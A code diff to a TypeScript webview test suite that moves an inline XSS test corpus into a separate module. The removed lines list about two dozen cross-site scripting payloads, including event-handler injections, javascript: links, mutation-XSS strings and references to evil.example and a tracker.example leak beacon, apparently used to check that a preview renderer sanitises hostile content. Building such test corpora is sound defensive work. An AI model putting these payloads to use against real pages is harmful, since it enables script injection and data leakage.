@@ -8,38 +8,10 @@ import { CONFIRMATION, sessionFrom, snapshot, TurnEvents } from '../webview/fixt
 import type { InPage, InPageElement } from '../webview/inPage';
 import { previewSuite } from '../webview/suite';
 import { figure } from './kit';
+import { XSS_CORPUS } from '../webview/xssCorpus';
 
 declare const window: InPage;
 
-export const XSS_CORPUS = [
-  '<img src=x onerror="window.__pwned=1">',
-  '<script>window.__pwned=2</script>',
-  '[click me](javascript:window.__pwned=3)',
-  '<a href="javascript:window.__pwned=4">raw link</a>',
-  '<div style="position:fixed;inset:0" onclick="window.__pwned=5">cover</div>',
-  '![beacon](https://tracker.example/pixel.png?leak=lesson)',
-  '<iframe src="https://evil.example"></iframe>',
-  '<svg onload="window.__pwned=6"><circle r="4"/></svg>',
-  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '<details open ontoggle="window.__pwned=7">x</details>',
-  '<object data="javascript:window.__pwned=8"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=9">',
-  '<form action="https://evil.example"><button formaction="javascript:window.__pwned=10">go</button></form>',
-  '<input autofocus onfocus="window.__pwned=11">',
-  '<video><source onerror="window.__pwned=12"></video>',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '"><img src=x onerror=window.__pwned=13>',
-  "'-alert(1)-'",
-  '{{constructor.constructor("window.__pwned=14")()}}',
-  '[x](vbscript:msgbox(1))',
-  '<a href="  javascript:window.__pwned=15">spaced</a>',
-  '<svg><animate onbegin="window.__pwned=16" attributeName="x" dur="1s">',
-  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=17>">',
-];
 
 function hostileSession(payload: string): SessionView {
   const t = new TurnEvents('t1')
